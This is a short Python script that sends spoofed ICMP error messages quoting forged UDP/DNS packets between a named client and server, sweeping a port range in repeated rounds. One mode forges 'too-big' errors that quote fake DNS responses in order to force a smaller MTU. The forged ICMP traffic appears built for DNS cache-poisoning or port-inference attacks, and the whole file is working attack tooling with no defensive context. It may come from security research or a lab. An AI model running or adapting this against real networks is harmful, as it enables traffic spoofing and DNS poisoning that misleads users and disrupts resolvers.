"""Sends forged ICMP errors about packets that somebody is said to have sent.

usage: python3 icmp.py SENDER CLIENT SERVER KIND FIRST LAST [MTU]

One error for each port from FIRST to LAST, again and again until its standard input ends. KIND as crafted.py has it, about questions of
CLIENT to SERVER; or `answer`, which says that answers of CLIENT, a server, are longer than MTU.
"""
import sys
import threading
import time

from crafted import quoted_udp, send_icmp_error

sender, client, server, kind, first, last = sys.argv[1:7]
mtu = int(sys.argv[7]) if len(sys.argv) > 7 else 0
ended = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
rounds = 0
while True:
    for port in range(int(first), int(last) + 1):
        if kind == "answer":
            send_icmp_error(sender, client, "too-big", quoted_udp(client, server, (53, port), b"\0\0\x81\x80"), mtu)
        else:
            send_icmp_error(sender, client, kind, quoted_udp(client, server, (port, 53)), mtu)
    rounds += 1
    print(f"round {rounds}", flush=True)
    if ended.wait(0.2):
        break
